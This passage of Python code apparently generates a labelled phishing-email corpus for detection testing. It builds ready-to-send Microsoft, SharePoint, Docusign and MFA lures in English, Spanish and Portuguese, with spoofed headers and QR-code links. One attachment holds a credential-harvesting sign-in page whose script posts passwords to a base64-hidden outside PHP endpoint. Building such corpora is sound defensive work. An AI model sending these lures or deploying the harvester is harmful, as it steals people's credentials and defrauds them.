        exim(host, t - timedelta(seconds=3), rcpt, frm, seed,
             client="[45.143.203.17] (port=51922 helo=[10.0.2.15])", auth_user=frm, off=-360),
        dkim("pinecrestdental.net", "default", t, CPANEL_H, seed, extra=" q=dns/txt;"),
        f"From: {addr('Outlook Team', frm)}",
        f"To: {rcpt}",
        "Subject: Action Required: Your mailbox storage is full (99.8%)",
        f"Date: {rfc(t - timedelta(seconds=4), -360)}",
        f"Message-ID: {phpmailer_mid('pinecrestdental.net', seed)}",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        cpanel_antiabuse(host, "hotmail.com", frm),
    ])
    plain = f"""Microsoft Outlook

Your mailbox {rcpt} is full.

Storage used: 14.97 GB of 15 GB (99.8%)

You can no longer send or receive new messages. Incoming email is being held on
our servers and will be permanently deleted after 48 hours.

To keep your emails, verify your account below and get 50 GB of additional
storage at no cost:

Free Up Storage: {link}

Thank you,
The Microsoft account team

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
"""
    html = html_page(f"""<body style="margin:0;padding:0;background:#f3f2f1;font-family:'Segoe UI',Tahoma,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f3f2f1"><tr><td align="center" style="padding:24px 8px">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border:1px solid #e1dfdd">
<tr><td style="background:#0078d4;padding:18px 28px;color:#ffffff;font-size:20px;font-weight:600">Outlook</td></tr>
<tr><td style="padding:28px 28px 8px 28px;font-size:15px;color:#323130">
<p style="font-size:22px;color:#a4262c;margin:0 0 14px 0">Your mailbox is full</p>
<p>Your mailbox <b>{rcpt}</b> has run out of storage space.</p>
<table width="100%" cellpadding="0" cellspacing="0" style="margin:14px 0"><tr>
<td width="99%" style="background:#a4262c;height:12px;font-size:1px">&nbsp;</td><td width="1%" style="background:#edebe9;height:12px;font-size:1px">&nbsp;</td>
</tr></table>
<p style="margin:0 0 18px 0;color:#605e5c">14.97 GB of 15 GB used (99.8%)</p>
<p>You can no longer send or receive new messages. Incoming email is being held on our servers and
will be <b>permanently deleted after 48 hours</b>.</p>
<p>To keep your emails, verify your account and get <b>50 GB of additional storage</b> at no cost.</p>
<p style="padding:12px 0 22px 0"><a href="{link}" style="background:#0078d4;color:#ffffff;text-decoration:none;padding:11px 26px;font-weight:600;display:inline-block">Free Up Storage</a></p>
<p>Thank you,<br>The Microsoft account team</p>
</td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#8a8886;border-top:1px solid #edebe9">
Microsoft respects your privacy. Please read our <a href="https://privacy.microsoft.com/privacystatement" style="color:#8a8886">Privacy Statement</a>.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table>
</body>""")
    headers = outlook_in(seed, t, rcpt, "162.241.216.148", host, host,
                         Auth(frm, "pass", "pinecrestdental.net", "none", "pinecrestdental.net", "pass", "default"),
                         sender)
    add("b35-phish-outlook-storage-full", "phish", "phishing",
        "Outlook.com 'mailbox full, messages deleted in 48h' lure from a compromised dental-practice cPanel mailbox; "
        "button to a Cloudflare pages.dev credential page with the victim's address in the URL",
        headers, alt(plain, html, "b1=_" + aln(seed + "bd", 40)))


def a02():
    seed = "a02"
    t = at(2025, 6, 18, 13, 22, 5)
    rcpt = "dmorris@hartwell-logistics.com"
    frm = "it-servicedesk@hartwell-logistics-it.com"
    target = "https://sso-hartwell.brisk-lake-4f21.workers.dev/?login=" + base64.b64encode(rcpt.encode()).decode()
    u = "a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    link = f"https://www.bing.com/ck/a?!&&p={hx(seed + 'bp', 64)}JmltdHM9MTc1MDIwNDgwMA&ptn=3&ver=2&hsh=4&fclid={guid(seed + 'fc')}&u={u}&ntb=1"
    ip = "194.36.191.84"
    helo = "mail.hartwell-logistics-it.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=2), rcpt, seed, client="[127.0.0.1] (localhost [127.0.0.1])", auth=True),
        dkim("hartwell-logistics-it.com", "mail", t, "from:to:subject:date:message-id:mime-version:content-type", seed),
        f"From: {addr('Hartwell IT Service Desk', frm)}",
        f"To: {addr('Dana Morris', rcpt)}",
        f"Subject: Password Expiration Notice for {rcpt} - Expires Today",
        f"Date: {rfc(t - timedelta(seconds=3), 0)}",
        f"Message-ID: <{hx(seed + 'mid', 32)}@hartwell-logistics-it.com>",
        "MIME-Version: 1.0",
        "X-Priority: 1 (Highest)",
        "Importance: High",
    ])
    html = html_page(f"""<body style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#1f1f1f">
<div style="max-width:600px;border:1px solid #d0d0d0">
<div style="background:#2b579a;color:#fff;padding:12px 20px;font-size:14pt">Microsoft 365 | Hartwell Logistics</div>
<div style="padding:20px">
<p>Hello Dana,</p>
<p>The password for your Microsoft 365 account <b>{rcpt}</b> expires <b>today, June 18, 2025</b>.</p>
<p>To avoid losing access to Outlook, Teams and OneDrive, you can keep your current password or change it using the secure link below.</p>
<p style="margin:22px 0"><a href="{link}" style="background:#2b579a;color:#ffffff;padding:10px 22px;text-decoration:none;border-radius:2px">Keep Current Password</a></p>
<p style="font-size:9pt;color:#666">If you do not take action, you will be signed out of all devices at 11:59 PM and will need to contact the Service Desk to regain access.</p>
<p>Regards,<br>IT Service Desk<br>Hartwell Logistics, Inc.</p>
</div></div>
<p style="font-size:8pt;color:#999">This is an automated message sent from a notification-only address. Please do not reply.</p>
</body>""")
    plain = f"""Microsoft 365 | Hartwell Logistics

Hello Dana,

The password for your Microsoft 365 account {rcpt} expires today, June 18, 2025.

To avoid losing access to Outlook, Teams and OneDrive, you can keep your current password or change it using the secure link below.

Keep Current Password: {link}

If you do not take action, you will be signed out of all devices at 11:59 PM and will need to contact the Service Desk to regain access.

Regards,
IT Service Desk
Hartwell Logistics, Inc.
"""
    headers = outlook_in(seed, t, rcpt, ip, "vm3817.hosted-by-vdsina.com", helo,
                         Auth(frm, "pass", "hartwell-logistics-it.com", "none", "hartwell-logistics-it.com", "pass", "mail",
                              compauth="pass", reason="109"),
                         sender, tenant="hartwell", ctry="NL")
    add("b35-phish-m365-password-expiry", "phish", "phishing",
        "M365 'password expires today' notice to a company user from a look-alike of the company's own domain "
        "(hartwell-logistics-it.com, passes its own SPF/DKIM); Bing ck/a open redirect to a workers.dev login page",
        headers, alt(plain, html, f"=_{hx(seed + 'bd', 28)}"))


def a03():
    seed = "a03"
    t = at(2025, 9, 23, 15, 41, 12)
    rcpt = "ap@hartwell-logistics.com"
    frm = "no-reply@sharepointonline.com"
    link = (f"https://tricountyfreightinc-my.sharepoint.com/:o:/g/personal/mellison_tricountyfreight_com/"
            f"E{aln(seed + 'sp', 45)}?e={aln(seed + 'e', 6)}")
    ip = "40.107.220.93"
    helo = "NAM11-CO1-obe.outbound.protection.outlook.com"
    ptr = "mail-co1nam11on2093.outbound.protection.outlook.com"
    mid = f"<{guid(seed + 'm1')}@odspnotify>"
    sender = "\n".join([
        fold(f"Received: from SJ0PR22MB{digits(seed + 'sj', 4)}.namprd22.prod.outlook.com (2603:10b6:a03:45b::11) by "
             f"CH3PR22MB{digits(seed + 'ch', 4)}.namprd22.prod.outlook.com (2603:10b6:610:1c2::8) with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=2))}"),
        dkim("sharepointonline.com", "selector1", t,
             "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", seed),
        f"From: {addr('Mark Ellison', frm)}",
        f"To: <{rcpt}>",
        f"Subject: {ew('Mark Ellison shared “Tri-County Freight - Remittance Advice Q3” with you')}",
        f"Date: {rfc(t - timedelta(seconds=3))}",
        f"Message-ID: {mid}",
        "X-MS-Exchange-SenderADCheck: 1",
        "X-MS-Exchange-Organization-SharingNotification: 1",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;padding:0">
<div style="font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,BlinkMacSystemFont,Roboto,'Helvetica Neue',sans-serif;max-width:536px;margin:0 auto">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px 24px 0 24px">
<table role="presentation" cellpadding="0" cellspacing="0"><tr>
<td style="width:40px;height:40px;border-radius:50%;background:#8764b8;color:#fff;text-align:center;font-size:15px;font-weight:600">ME</td>
<td style="padding-left:12px;font-size:21px;color:#242424">Mark Ellison shared a file with you</td></tr></table>
</td></tr>
<tr><td style="padding:20px 24px 0 24px;font-size:14px;color:#242424">Hi, please see the remittance for Q3 freight invoices. Let me know if anything is missing. Thanks, Mark</td></tr>
<tr><td style="padding:20px 24px">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="border:1px solid #e0e0e0;border-radius:4px"><tr>
<td style="padding:12px;width:32px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/one.png" width="32" height="32" alt="OneNote"></td>
<td style="padding:12px 12px 12px 0;font-size:14px;font-weight:600;color:#242424">Tri-County Freight - Remittance Advice Q3</td></tr></table>
<p style="margin:6px 0 0 0;font-size:12px;color:#616161">This link will work for anyone.</p>
</td></tr>
<tr><td style="padding:0 24px 24px 24px"><a href="{link}" style="display:inline-block;background:#0f6cbd;color:#ffffff;font-size:14px;font-weight:600;padding:8px 16px;border-radius:4px;text-decoration:none">Open</a></td></tr>
<tr><td style="padding:16px 24px;border-top:1px solid #e0e0e0;font-size:12px;color:#616161">
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/sharepoint_48x1.png" width="16" height="16" alt=""> Tri-County Freight, Inc.<br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Privacy Statement</a></td></tr>
</table></div>
</body>""")
    plain = f"""Mark Ellison shared a file with you

Hi, please see the remittance for Q3 freight invoices. Let me know if anything is missing. Thanks, Mark

Tri-County Freight - Remittance Advice Q3
This link will work for anyone.

Open: {link}

Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, helo,
                         Auth("no-reply@sharepointonline.com", "pass", "sharepointonline.com", "pass",
                              "sharepointonline.com", "pass", "selector1"),
                         sender, tenant="hartwell")
    add("b35-phish-sharepoint-compromised-vendor", "phish", "phishing",
        "Genuine SharePoint sharing notification (passes all auth) sent from a compromised freight vendor's tenant: "
        "an anyone-link OneNote 'remittance advice' that leads on to an AiTM Microsoft login page",
        headers, alt(plain, html, f"_000_{guid(seed + 'b')}_", "quoted-printable"))


def a04():
    seed = "a04"
    t = at(2025, 1, 27, 10, 3, 52)
    rcpt = "camila.rocha92@hotmail.com"
    frm = "contato@autopecasbarbosa.com.br"
    link = f"https://msaccountrecover.blob.core.windows.net/$web/index.html?id={hx(seed + 'id', 20)}#{rcpt}"
    masked = "ca**********@hotmail.com"
    ip = "186.202.153.47"
    helo = "smtp-out-153-47.locaweb.com.br"
    sender = "\n".join([
        postfix("smtp-out-153-47.locaweb.com.br", t - timedelta(seconds=2), rcpt, seed,
                client="webmail-sp.locaweb.com.br (unknown [10.30.7.112])", auth=True, off=-180),
        f"From: {addr('Equipe de contas da Microsoft', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Atividade de entrada incomum na conta da Microsoft', 'Q')}",
        f"Date: {rfc(t - timedelta(seconds=5), -180)}",
        f"Message-ID: <{hx(seed + 'mid', 32)}@autopecasbarbosa.com.br>",
        "User-Agent: Roundcube Webmail/1.6.6",
        "X-Sender: contato@autopecasbarbosa.com.br",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070">Conta da Microsoft</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec">Atividade de entrada incomum</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Detectamos algo incomum em uma entrada recente na conta da Microsoft <a dir="ltr" style="color:#2672ec;text-decoration:none" href="mailto:{rcpt}">{masked}</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a"><b>Detalhes da entrada</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">País/região: <b>Rússia/Moscou</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Endereço IP: <b>103.225.77.255</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Data: <b>27/01/2025 06:41 (GMT)</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Plataforma: <b>Windows 10</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Navegador: <b>Firefox</b></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Se não foi você, sua conta pode ter sido comprometida. Siga as etapas abaixo para proteger sua conta dentro de 24 horas, ou ela será bloqueada.</td></tr>
<tr><td style="padding:0;padding-top:25px"><a href="{link}" style="background-color:#2672ec;color:#ffffff;padding:8px 20px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;text-decoration:none">Revisar atividade recente</a></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Obrigado,</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Equipe de contas da Microsoft</td></tr>
</table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, helo, helo,
                         Auth(frm, "pass", "autopecasbarbosa.com.br", "none", "", "none"),
                         sender, lang="pt", ctry="BR")
    add("b35-phish-msaccount-signin-pt", "phish", "phishing",
        "Copy of Microsoft's 'Atividade de entrada incomum' mail (Russia sign-in, 24h lock threat) sent from a "
        "compromised Brazilian auto-parts webmail; button to a page on an Azure blob static website",
        headers, text(html, "html", "quoted-printable"))


def a05():
    seed = "a05"
    t = at(2025, 4, 9, 16, 12, 30)
    rcpt = "dmorris@hartwell-logistics.com"
    frm = "voicemail@gardenstatehvac.com"
    ip = "40.107.236.112"
    helo = "NAM04-BN8-obe.outbound.protection.outlook.com"
    ptr = "mail-bn8nam04on2112.outbound.protection.outlook.com"
    post = "https://rtcvoice-msg.com/tmp/vm/next.php"
    enc_post = base64.b64encode(post.encode()).decode()
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Voice Message Playback</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:url('https://aadcdn.msauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg') center/cover}}
.box{{width:360px;margin:90px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
.player{{background:#f3f2f1;padding:10px;margin:12px 0 20px 0;font-size:13px;color:#605e5c}}
input{{width:100%;border:none;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0 16px 0}}
button{{background:#0067b8;color:#fff;border:0;padding:8px 28px;float:right;font-size:15px}}
#err{{color:#e81123;font-size:13px;display:none}}
</style></head>
<body>
<div class="box">
<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108">
<h3 style="font-weight:600">Voice message (00:47)</h3>
<div class="player">&#9654; 0:00 / 0:47 &nbsp; Caller: +1 (732) 555-0187</div>
<p style="font-size:13px">Sign in with your work account to play this message.</p>
<div id="err">Your account or password is incorrect. Please try again.</div>
<input type="email" id="ai" value="{rcpt}" readonly>
<input type="password" id="pr" placeholder="Password">
<button id="go">Sign in</button>
<div style="clear:both"></div>
</div>
<script>
var c=0,u=atob("{enc_post}");
document.getElementById("go").onclick=function(){{
 var e=document.getElementById("ai").value,p=document.getElementById("pr").value;
 if(!p){{return false;}}
 var f=new FormData();f.append("ai",e);f.append("pr",p);f.append("src","vm");
 fetch(u,{{method:"POST",body:f}}).then(function(){{c++;
  if(c<2){{document.getElementById("err").style.display="block";document.getElementById("pr").value="";}}
  else{{window.location.replace("https://outlook.office.com/mail/");}}
 }});
}};
</script>
</body></html>
"""
    mbxhost = f"MN2PR19MB{digits(seed + 'mn', 4)}.namprd19.prod.outlook.com"
    sender = "\n".join([
        fold(f"Received: from MN2PR19MB{digits(seed + 'mn', 4)}.namprd19.prod.outlook.com (2603:10b6:208:1b0::14) by "
             f"BL1PR19MB{digits(seed + 'bl', 4)}.namprd19.prod.outlook.com with Microsoft SMTP Server "
             f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=2))}"),
        dkim("gardenstatehvac.com", "selector1", t,
             "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", seed),
        f"From: {addr('Voice Mail Service', frm)}",
        f"To: {addr('dmorris', rcpt)}",
        "Subject: New Voicemail (00:47) from +1 (732) 555-0187 for dmorris - Wed, Apr 9",
        f"Thread-Topic: New Voicemail (00:47) from +1 (732) 555-0187 for dmorris - Wed, Apr 9",
        f"Thread-Index: {b64(seed + 'ti', 30)}==",
        f"Date: {rfc(t - timedelta(seconds=3))}",
        f"Message-ID: {exchange_mid(seed, mbxhost)}",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator: ",
        "MIME-Version: 1.0",
    ])
    html = html_page("""<body>
<div style="font-family:Aptos,Calibri,Arial,sans-serif;font-size:12pt;color:#000000">
<p><b>Voicemail Notification</b></p>
<table cellpadding="4" style="font-size:11pt">
<tr><td style="color:#666">From:</td><td>+1 (732) 555-0187</td></tr>
<tr><td style="color:#666">To:</td><td>dmorris</td></tr>
<tr><td style="color:#666">Received:</td><td>Wednesday, April 9, 2025 11:58 AM</td></tr>
<tr><td style="color:#666">Length:</td><td>00:00:47</td></tr>
</table>
<p>You have received a new voice message. Open the attached audio file to listen.</p>
<p style="font-size:9pt;color:#777">Unified Messaging &middot; Microsoft Teams Phone</p>
</div>
</body>""")
    body = Multi("mixed", f"_004_{hx(seed + 'b1', 32, True)}_", [
        Multi("alternative", f"_000_{hx(seed + 'b2', 32, True)}_", [
            text("Voicemail Notification\n\nFrom: +1 (732) 555-0187\nTo: dmorris\nReceived: Wednesday, April 9, 2025 11:58 AM\n"
                 "Length: 00:00:47\n\nYou have received a new voice message. Open the attached audio file to listen.\n\n"
                 "Unified Messaging - Microsoft Teams Phone\n", "plain", "quoted-printable", "us-ascii"),
            text(html, "html", "quoted-printable", "us-ascii"),
        ]),
        attachment("text/html", "VM_Playback_dmorris_0047.htm", page.encode()),
    ])
    headers = outlook_in(seed, t, rcpt, ip, ptr, helo,
                         Auth(frm, "pass", "gardenstatehvac.com", "pass", "gardenstatehvac.com", "pass", "selector1"),
                         sender, tenant="hartwell")
    add("b35-phish-voicemail-html", "phish", "phishing",
        "Fake Teams voicemail notice from a compromised HVAC company's Microsoft 365 mailbox (passes SPF/DKIM/DMARC) "
        "with an .htm 'playback' attachment: Microsoft sign-in form, address prefilled, posting the password to a PHP drop",
        headers, body)


def gmail_out(seed: str, t: datetime, host: str, name: str, frm: str, to: str, subject: str, darn: str,
              extra: list[str] | None = None, reply_to: str = "", off: int = -180) -> str:
    """Headers Gmail writes on a message a Gmail user sends (as seen by the receiving server)."""
    x = epoch(t) + 604800
    hfields = "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"
    if reply_to:
        hfields = "to:subject:message-id:date:from:reply-to:mime-version:from:to:cc:subject:date:message-id:reply-to"
    lines = [
        dkim("gmail.com", "20230601", t, hfields, seed + "gd", extra=f" x={x}; darn={darn};"),
        dkim("1e100.net", "20230601", t, hfields.replace("mime-version:", "mime-version:x-gm-message-state:"), seed + "gx",
             extra=f" x={x};", name="X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 60)}",
        f"X-Gm-Gg: ASbGnc{b64(seed + 'ggg', 120)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss2', 84)}",
        f"X-Received: by 2002:a05:6402:{hx(seed + 'xr1', 4)}:b0:{hx(seed + 'xr2', 3)}:{hx(seed + 'xr3', 4)} with SMTP id "
        f"{hx(seed + 'xr4', 16)}mr{digits(seed + 'xr5', 8)}{aln(seed + 'xr6', 3, 'abcdefghijklmnopqrstuvwxyz')}.{int(hx(seed + 'xr7', 2), 16)};\n"
        f"        {pacific(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"From: {addr(name, frm)}",
    ]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += [
        f"Date: {rfc(t - timedelta(seconds=2), off)}",
        f"Message-ID: {gmail_mid(seed)}",
        f"Subject: {subject}",
        f"To: {to}",
    ]
    lines += extra or []
    received = (f"Received: by {host} with SMTP id {hx(seed + 'rid', 16)}-{hx(seed + 'rie', 4)}{aln(seed + 'rif', 2, 'abcdefghijklmnopqrstuvwxyz')}.{int(hx(seed + 'rig', 2), 16) % 30}\n"
                f"        for <{to.split('<')[-1].rstrip('>')}>; {pacific(t - timedelta(seconds=1))}")
    return received + "\n" + "\n".join(lines)


def gmail_alt(seed: str, plain: str, html: str) -> Multi:
    return Multi("alternative", f"000000000000{hx(seed + 'gb', 12)}",
                 [text(plain, "plain", "quoted-printable", "UTF-8"), text(html, "html", "quoted-printable", "UTF-8")])


def a06():
    seed = "a06"
    t = at(2024, 11, 5, 14, 51, 9)
    rcpt = "kpatel@hartwell-logistics.com"
    frm = "dse-notifications@esign-docucenter.com"
    qr_url = "https://docs-sign-review.icu/Hr9x/#" + base64.b64encode(rcpt.encode()).decode()
    ip = "91.92.246.18"
    helo = "mail.esign-docucenter.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=2), rcpt, seed, auth=False),
        dkim("esign-docucenter.com", "default", t, "from:to:subject:date:message-id:mime-version", seed),
        f"From: {addr('Docusign via Hartwell HR', frm)}",
        f"To: {rcpt}",
        "Subject: Complete with Docusign: Hartwell_Employee_Handbook_Acknowledgement_2025.pdf",
        f"Date: {rfc(t - timedelta(seconds=3), 0)}",
        f"Message-ID: <{hx(seed + 'm', 24)}.{epoch(t)}@esign-docucenter.com>",
        "MIME-Version: 1.0",
    ])
    html = html_page("""<body style="margin:0;background:#eaeaea">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:10px 24px"><span style="font-size:22px;font-weight:bold;color:#000">Docu</span><span style="font-size:22px;font-weight:bold;color:#ffc820">Sign</span></td></tr>
<tr><td style="background:#1e4ca1;padding:32px 24px;text-align:center;color:#ffffff">
<p style="font-size:16px;margin:0 0 8px 0">Hartwell HR sent you a document to review and sign.</p>
<p style="margin:20px 0"><img src="cid:qr_8f2a1c" width="180" height="180" alt="QR code" style="background:#fff;padding:8px"></p>
<p style="font-size:14px;margin:0">Scan the QR code with your phone camera to review the document securely.</p>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:22px">
<p><b>Hartwell HR</b><br><span style="color:#666">hr@hartwell-logistics.com</span></p>
<p>Please review and acknowledge the updated 2025 Employee Handbook. All employees must complete this by end of day Friday.</p>
<p>Thank you,<br>Human Resources</p>
</td></tr>
<tr><td style="padding:20px 24px;background:#eaeaea;font-size:11px;color:#666">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.
</td></tr></table></td></tr></table>
</body>""")
    plain = """Hartwell HR sent you a document to review and sign.

Scan the QR code with your phone camera to review the document securely.

Please review and acknowledge the updated 2025 Employee Handbook. All employees must complete this by end of day Friday.

Thank you,
Human Resources

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.
"""
    body = Multi("related", f"----=_Part_{digits(seed + 'p1', 6)}_{digits(seed + 'p2', 9)}.{epoch(t)}", [
        Multi("alternative", f"----=_Part_{digits(seed + 'p3', 6)}_{digits(seed + 'p4', 9)}.{epoch(t)}", [
            text(plain, "plain", "7bit", "UTF-8"), text(html, "html", "quoted-printable", "UTF-8")]),
        attachment("image/png", "qr.png", files.qr_png(qr_url), inline=True, cid="qr_8f2a1c"),
    ], params=' type="multipart/alternative";')
    headers = outlook_in(seed, t, rcpt, ip, "vps-91-92-246-18.stark-industries.solutions", helo,
                         Auth("bounce@esign-docucenter.com", "pass", "esign-docucenter.com", "pass",
                              "esign-docucenter.com", "pass", "default"),
                         sender, tenant="hartwell", ctry="NL")
    add("b35-phish-docusign-qr", "phish", "phishing",
        "Fake Docusign 'Employee Handbook' signing request from a look-alike domain (passes its own SPF/DKIM/DMARC); "
        "the only link is an inline QR code image pointing to a phishing page with the address in the fragment",
        headers, body)


def a07():
    seed = "a07"
    t = at(2025, 2, 25, 0, 18, 44)
    rcpt = "compras@ferreteradelbajio.com.mx"
    frm = "seguridad@m365-soporte-tecnico.com"
    qr_url = "https://m365-soporte-tecnico.com/mfa/?tk=" + hx(seed + "tk", 24) + "&u=" + base64.b64encode(rcpt.encode()).decode()
    ip = "45.134.26.201"
    helo = "srv1.m365-soporte-tecnico.com"
    pdf = qr_pdf(qr_url, [
        "Microsoft 365 - Seguridad de la cuenta",
        "",
        f"Usuario: {rcpt}",
        "Fecha limite: 28/02/2025",
        "",
        "Su organizacion ha actualizado la politica de autenticacion multifactor (MFA).",
        "Para evitar la suspension de su buzon, vuelva a registrar su metodo de verificacion.",
        "",
        "1. Abra la camara de su telefono.",
        "2. Escanee el codigo QR.",
        "3. Inicie sesion y confirme su numero de telefono.",
    ], "MFA_Reconfiguracion")
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=2), rcpt, seed, client="[185.195.71.40] (unknown [185.195.71.40])", auth=True),
        dkim("m365-soporte-tecnico.com", "s1", t, "from:to:subject:date:message-id:mime-version:content-type", seed),
        f"From: {addr('Soporte TI - Microsoft 365', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Acción requerida: reconfigure la autenticación multifactor (MFA) antes del 28/02/2025')}",
        f"Date: {rfc(t - timedelta(seconds=3), -360)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@m365-soporte-tecnico.com>",
        "MIME-Version: 1.0",
    ])
    plain = f"""Estimado usuario,

Como parte de la actualización de seguridad de Microsoft 365, todas las cuentas de
ferreteradelbajio.com.mx deben volver a registrar la autenticación multifactor (MFA).

Encontrará las instrucciones en el documento adjunto. El proceso toma menos de 2 minutos
y debe realizarse desde su teléfono móvil.

Si no completa el registro antes del 28/02/2025, el acceso a su correo será suspendido.

Atentamente,
Departamento de Soporte TI
"""
    body = Multi("mixed", f"b1_{aln(seed + 'b', 40)}", [
        text(plain, "plain", "8bit", "utf-8"),
        attachment("application/pdf", "MFA_Reconfiguracion_ferreteradelbajio.pdf", pdf),
    ])
    headers = outlook_in(seed, t, rcpt, ip, "vm-45-134-26-201.fastvps.host", helo,
                         Auth(frm, "pass", "m365-soporte-tecnico.com", "none", "m365-soporte-tecnico.com", "pass", "s1"),
                         sender, tenant="bajio", lang="es", ctry="DE")
    add("b35-phish-mfa-qr-pdf-es", "phish", "phishing",
        "Spanish 'reconfigure su MFA o se suspende su buzón' mail from a throwaway Microsoft look-alike domain; the link "
        "lives only in a QR code inside the attached PDF (quishing), encoding the company address",
        headers, body)


def a08():
    seed = "a08"
    t = at(2024, 8, 14, 23, 36, 17)
    rcpt = "lupita.hdz@hotmail.com"
    frm = "soporte.verificacion.outlook@gmail.com"
    link = f"https://forms.office.com/Pages/ResponsePage.aspx?id={b64url(seed + 'f', 88)}"
    host = "mail-ed1-f52.google.com"
    sender = gmail_out(seed, t, host, "Soporte Outlook", frm, rcpt,
                       ew("Su cuenta de Hotmail será cerrada - Verificación obligatoria"), "hotmail.com", off=-360)
    plain = f"""Estimado usuario de Hotmail/Outlook:

Hemos detectado que su cuenta {rcpt} no ha sido verificada según la nueva política de
seguridad de Microsoft 2024. Las cuentas no verificadas serán cerradas en las próximas 24 horas
y todos sus correos, contactos y archivos de OneDrive serán eliminados.

Para mantener su cuenta activa, complete el formulario de verificación:

{link}

Gracias por su comprensión.
Equipo de Soporte de Outlook
© 2024 Microsoft Corporation
"""
